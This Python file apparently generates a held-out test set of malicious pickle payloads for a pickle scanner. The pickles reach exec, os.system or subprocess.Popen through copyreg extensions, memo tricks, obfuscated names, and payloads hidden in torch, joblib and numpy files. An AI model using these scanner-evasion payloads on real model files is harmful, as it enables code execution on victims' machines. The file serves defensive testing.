"""Round 7, P04 to P06, P08, P09 and P11: what opcodes, memo and streams allow."""

import io
import struct
from typing import Any

import numpy as np

from held_out.seventh_asm import CANARY, CMD, EXPR, PY, C, G, Raw, call, emit, g, head, kw, pickled

EXEC = b"cbuiltins\nexec\n"
SYSTEM = b"cposix\nsystem\n"
ARGS = b"(V" + PY.encode() + b"\nt"
SHELL = b"(V" + CMD.encode() + b"\nt"
DO = EXEC + ARGS + b"R"


def u(name: str) -> bytes:
    return b"\x8c" + bytes([len(name)]) + name.encode()


def extensions() -> dict[str, bytes]:
    def add(code: int, where: str = "builtins:exec") -> bytes:
        module, name = where.split(":")
        return emit(call("copyreg:add_extension", module, name, code), 2) + b"0"

    far = 0x7FFFFFFF
    inverted = b"ccopyreg\n_inverted_registry\n"
    pair = b"(X\x08\x00\x00\x00builtinsX\x04\x00\x00\x00exect"
    return {
        "ext1": b"\x80\x02" + add(7) + b"\x82\x07" + ARGS + b"R.",
        "ext2_posix": b"\x80\x02" + add(999, "posix:system") + b"\x83\xe7\x03" + SHELL + b"R.",
        "ext4_far": b"\x80\x02" + add(far) + b"\x84\xff\xff\xff\x7f" + ARGS + b"R.",
        "inverted_setitem": b"\x80\x02" + inverted + b"K\x09" + pair + b"s0\x82\x09" + ARGS + b"R.",
        "inverted_setitems": b"\x80\x02"
        + inverted
        + b"(K\x21"
        + pair
        + b"u0\x82\x21"
        + ARGS
        + b"R.",
        "cache_setitem": b"\x80\x02ccopyreg\n_extension_cache\nK\x0b"
        + EXEC
        + b"s0\x82\x0b"
        + ARGS
        + b"R.",
        "cache_as_ext4": b"\x80\x02ccopyreg\n_extension_cache\nK\x0c"
        + EXEC
        + b"s0\x84\x0c\x00\x00\x00"
        + ARGS
        + b"R.",
        "ext_dotted": b"\x80\x04"
        + add(5, "collections:_sys.modules.get")
        + b"\x82\x05(Vposix\ntR0"
        + DO
        + b".",
        "ext_in_memo": b"\x80\x02" + add(44) + b"\x82\x2cq\x00" + b"0h\x00" + ARGS + b"R.",
    }


def calls() -> dict[str, bytes]:
    space = b"\x80\x04" + emit(G("types", "SimpleNamespace"), 4) + b")\x81"
    return {
        "inst_exec": b"(V" + PY.encode() + b"\nibuiltins\nexec\n.",
        "inst_under_mark": b"((V" + PY.encode() + b"\nibuiltins\nexec\n(lt.",
        "obj_exec": b"(" + EXEC + b"V" + PY.encode() + b"\no.",
        "obj_thread": b"\x80\x02(cmultiprocessing.pool\nThreadPool\nK\x01" + EXEC + ARGS + b"o.",
        "obj_popen": b"(csubprocess\nPopen\n(lVtouch\naV" + CANARY.encode() + b"\nao.",
        "newobj_popen": b"\x80\x04" + emit(g("subprocess:Popen"), 4) + b")\x810" + DO + b".",
        "newobjex_map": b"\x80\x04"
        + emit(g("collections:deque"), 4)
        + b"("
        + emit(g("builtins:map"), 4)
        + b"("
        + EXEC
        + b"](V"
        + PY.encode()
        + b"\net\x81tR.",
        "build_setstate": space
        + emit({"__setstate__": g("builtins:exec")}, 4)
        + b"b"
        + emit(PY, 4)
        + b"b.",
        "append_attr": space + emit({"append": g("builtins:exec")}, 4) + b"b" + emit(PY, 4) + b"a.",
        "appends_attr": space
        + emit({"append": g("builtins:exec")}, 4)
        + b"b("
        + emit(PY, 4)
        + b"e.",
        "extend_map": space
        + emit({"extend": g("builtins:print"), "append": g("builtins:exec")}, 4)
        + b"b0"
        + DO
        + b".",
        "additems_attr": space
        + emit({"add": g("builtins:exec")}, 4)
        + b"b("
        + emit(PY, 4)
        + b"\x90.",
        "setitem_shelf": b"\x80\x04"
        + emit(call("dbm.dumb:open", CANARY, "c"), 4)
        + emit("k", 4)
        + emit("v", 4)
        + b"s.",
        "newobj_filelist": b"\x80\x04"
        + emit(g("builtins:list"), 4)
        + b"("
        + emit(g("builtins:filter"), 4)
        + b"("
        + EXEC
        + b"](V"
        + PY.encode()
        + b"\net\x81tR.",
    }


def memo() -> dict[str, bytes]:
    def both(module: bytes, name: bytes, tail: bytes = ARGS) -> bytes:
        return b"\x80\x04" + module + name + b"\x93" + tail + b"R."

    def late(put: bytes, get: bytes) -> bytes:
        """A harmless word and the real one, put by different spellings of one number."""
        return b"\x80\x04" + u("len") + put + b"0" + u("exec") + get + b"0"

    name_get = u("builtins")
    return {
        "put_underscore": late(b"q\x0a", b"p1_0\n") + name_get + b"h\x0a\x93" + ARGS + b"R.",
        "put_spaces": late(b"q\x0a", b"p 10 \n") + name_get + b"h\x0a\x93" + ARGS + b"R.",
        "get_plus": b"\x80\x04" + u("exec") + b"q\x050" + name_get + b"g+5\n\x93" + ARGS + b"R.",
        "long_put": late(b"q\x0a", b"r\x0a\x00\x00\x00") + name_get + b"h\x0a\x93" + ARGS + b"R.",
        "memoize_over_put": b"\x80\x04"
        + u("len")
        + b"q\x01"
        + b"0"
        + u("exec")
        + b"\x940"
        + name_get
        + b"h\x01\x93"
        + ARGS
        + b"R.",
        "popped_mark": b"\x80\x04"
        + name_get
        + u("exec")
        + b"("
        + u("len")
        + u("print")
        + b"1\x93"
        + ARGS
        + b"R.",
        "dup_swapped": b"\x80\x04"
        + u("exec")
        + b"q\x000"
        + name_get
        + b"2q\x01"
        + b"0h\x00\x93"
        + ARGS
        + b"R.",
        "rot13": both(u("builtins"), emit(call("codecs:decode", "rkrp", "rot13"), 4)),
        "sliced": both(
            u("posix"),
            emit(call("operator:getitem", "metsys", call("builtins:slice", None, None, -1)), 4),
            SHELL,
        ),
        "replaced": both(
            u("builtins"),
            emit(call("builtins:str.replace", "elxelc", "l", ""), 4) + b"0" + u("exec"),
        ),
        "joined": both(u("builtins"), emit(call("builtins:str.join", "", ["e", "x", "ec"]), 4)),
        "formatted": both(
            u("builtins"), emit(call("builtins:str.format", "{1}{0}", "ec", "ex"), 4)
        ),
        "bytes_decoded": both(u("builtins"), emit(call("codecs:decode", b"exec", "ascii"), 4)),
        "list_popped": both(u("builtins"), emit(call("builtins:list.pop", ["len", "exec"]), 4)),
        "dict_default": both(u("builtins"), emit(call("builtins:dict.get", {}, "a", "exec"), 4)),
        "callable_in_dict": b"\x80\x04"
        + emit(call("operator:getitem", {"f": g("builtins:exec")}, "f"), 4)
        + ARGS
        + b"R.",
        "args_from_memo": b"\x80\x04" + emit((PY,), 4) + b"\x940" + EXEC + b"h\x00R.",
        "callable_memo_far": b"\x80\x04"
        + EXEC
        + b"r\xff\xff\x0f\x000j\xff\xff\x0f\x00"
        + ARGS
        + b"R.",
        "frames_nested": b"\x80\x04\x95\x02\x00\x00\x00\x00\x00\x00\x00N0\x95"
        + struct.pack("<Q", len(DO) + 1)
        + DO
        + b".",
        "frame_empty": b"\x80\x05" + b"\x95" + bytes(8) + DO + b".",
        "deep_tuple_args": b"\x80\x04" + EXEC + u("x") + b"0" + emit(PY, 4) + b"\x85" + b"R.",
        "list_as_args_tuple": b"\x80\x04" + EXEC + emit(C(g("builtins:tuple"), [[PY]]), 4) + b"R.",
        "proto_again": b"\x80\x02N0\x80\x04"
        + name_get
        + u("exec")
        + b"\x93\x80\x00"
        + ARGS
        + b"R.",
    }


def broken() -> dict[str, bytes]:
    done = b"\x80\x04" + DO
    tails = {
        "unhashable_key": b"0}]Ns.",
        "odd_setitems": b"0}(Nu.",
        "negative_long4": b"\x8b\xff\xff\xff\xff.",
        "missing_get": b"h\x63.",
        "missing_text_get": b"g77\n.",
        "stackglobal_ints": b"K\x01K\x02\x93.",
        "tuple_without_mark": b"t.",
        "build_on_none": b"0N}b.",
        "missing_module": b"cno_such_module_7\nx\n.",
        "float_text": b"Fnot-a-float\n.",
        "huge_binunicode8": b"\x8d" + struct.pack("<Q", 2**62) + b"x",
        "next_buffer": b"\x97.",
        "bytearray8_huge": b"\x96" + struct.pack("<Q", 2**61),
        "persid": b"P12\n.",
        "binpersid": b"N\x51.",
        "ext_unknown": b"\x83\x34\x12.",
        "reduce_none": b"NNR.",
        "lone_surrogate_eof": b"\x8c\x02\xed",
    }
    return {name: done + tail for name, tail in tails.items()}


def streams() -> dict[str, tuple[str, str, bytes]]:
    """Several pickles in one file: name to extension, loader and bytes."""
    import joblib

    fine = pickled({"a": [1, 2]}, 2)
    evil = b"\x80\x02" + DO + b"."
    magic = pickled(0x1950A86A20F9469CFC6C, 0)[:-1].replace(b"L", b"L", 1) + b"."
    proto = pickled(1001, 2)
    info = pickled({"protocol_version": 1001, "little_endian": True, "type_sizes": {}}, 2)
    held = np.array([{"a": 1}, 2], dtype=object)
    stored = io.BytesIO()
    joblib.dump({"w": np.ones(3), "o": held}, stored)
    data = stored.getvalue()
    at = data.rfind(b"\x80")  # the object array's own pickle, inside of joblib's
    until = data.index(b".", at) + 1
    plain = io.BytesIO()
    np.save(plain, np.arange(4))
    objects = io.BytesIO()
    np.save(objects, held, allow_pickle=True)
    bad_npy = objects.getvalue()[: objects.getvalue().index(b"\x80", 10)] + evil
    return {
        "torch_proto": (".pt", "torch", magic + evil),
        "torch_info": (".pth", "torch", magic + proto + evil),
        "torch_object": (".bin", "torch", magic + proto + info + evil + pickled([], 2)),
        "torch_keys": (".pt", "torch", magic + proto + info + fine + evil),
        "torch_real_keys": (".ckpt", "torch", magic + proto + info + legacy_object() + evil),
        "joblib_object_array": (".joblib", "joblib", data[:at] + evil + data[until:]),
        "second_appended": (".pkl", "pickles", fine + evil),
        "fifth_appended": (".pkl", "pickles", fine * 4 + evil),
        "protocol0_second": (".p", "pickles", pickled([1], 0) + DO + b"."),
        "npy_then_objects": (".npy", "npys", plain.getvalue() + bad_npy),
    }


def legacy_object() -> bytes:
    """Return the object pickle of a legacy file, with a storage named "0"."""
    storage = Raw(
        b"("
        + emit("storage", 2)
        + b"ctorch\nFloatStorage\n"
        + emit("0", 2)
        + emit("cpu", 2)
        + b"K\x02NtQ"
    )
    tensor = call(
        "torch._utils:_rebuild_tensor_v2",
        storage,
        0,
        (2,),
        (1,),
        False,
        call("collections:OrderedDict"),
    )
    return pickled({"w": tensor}, 2)


def escapes() -> dict[str, bytes]:
    coded = "".join(f"\\u{ord(c):04x}" for c in "exec").encode()
    wide = "".join(f"\\U{ord(c):08x}" for c in "builtins").encode()
    octal = "".join(f"\\{ord(c):03o}" for c in "exec").encode()
    hexed = "".join(f"\\x{ord(c):02x}" for c in "system").encode()
    styled = "".join(chr(ord(c) + 0x1D41A - 97) if c.isalpha() else c for c in "open") + PY[4:]
    return {
        "unicode_escapes": b"\x80\x04V" + wide + b"\nV" + coded + b"\n\x93" + ARGS + b"R.",
        "string_octal": b"\x80\x04S'builtins'\nS'" + octal + b"'\n\x93" + ARGS + b"R.",
        "string_hex_quotes": b'\x80\x04S"posix"\nS"' + hexed + b'"\n\x93' + SHELL + b"R.",
        "binstring_names": b"\x80\x04T\x08\x00\x00\x00builtinsU\x04exec\x93" + ARGS + b"R.",
        "mathematical_letters": pickled(call("builtins:exec", styled), 4),
        "binunicode8_names": b"\x80\x04\x8d"
        + struct.pack("<Q", 8)
        + b"builtins\x8d"
        + struct.pack("<Q", 4)
        + b"exec\x93"
        + ARGS
        + b"R.",
        "source_latin_cookie": pickled(
            call("builtins:exec", ("# coding: utf-7\n" + EXPR.replace("'", "+ACc-")).encode()), 4
        ),
        "long_text_args": head(4) + emit(call("builtins:eval", " " * 300 + EXPR), 4) + b".",
    }


def nested(inner: bytes) -> dict[str, Any]:
    """Pickles within pickles, and in what else carries pickles."""
    import base64
    import bz2
    import lzma
    import zlib

    import torch

    saved = io.BytesIO()
    torch.save({"a": 1}, saved)
    box = io.BytesIO()
    np.save(box, np.array([{}], dtype=object), allow_pickle=True)
    npy = box.getvalue()[: box.getvalue().index(b"\x80", 10)] + inner

    def stream(data: bytes) -> C:
        return call("io:BytesIO", data)

    return {
        "pickle._loads": call("pickle:_loads", inner),
        "Unpickler.load": call("pickle:_Unpickler.load", call("pickle:_Unpickler", stream(inner))),
        "storage._load_from_bytes": call("torch.storage:_load_from_bytes", inner),
        "numpy.load": kw("numpy:load", stream(npy), allow_pickle=True),
        "format.read_array": call("numpy.lib.format:read_array", stream(npy), True),
        "joblib.load": call("joblib:load", stream(inner)),
        "pandas.read_pickle": call("pandas:read_pickle", stream(inner)),
        "pandas_io": call("pandas.io.pickle:read_pickle", stream(bz2.compress(inner)), "bz2"),
        "cloudpickle.load": call("cloudpickle:load", stream(inner)),
        "ascii85": call("pickle:loads", call("base64:a85decode", base64.a85encode(inner))),
        "lzma": call("pickle:loads", call("lzma:decompress", lzma.compress(inner))),
        "zlib_hex": call(
            "pickle:loads",
            call("zlib:decompress", call("binascii:unhexlify", zlib.compress(inner).hex())),
        ),
        "reversed": call(
            "pickle:loads",
            call("operator:getitem", inner[::-1], call("builtins:slice", None, None, -1)),
        ),
        "byte_list": call("pickle:loads", call("builtins:bytes", list(inner))),
        "array_bytes": call("pickle:loads", call("builtins:bytearray", inner)),
        "torch.load": kw("torch:load", stream(inner), weights_only=False),
        "in_a_string": call(
            "_pickle:loads", call("builtins:str.encode", inner.decode("latin-1"), "latin-1")
        ),
        "eval_of_loads": call("builtins:eval", f"__import__('pickle').loads({inner!r})"),
    }
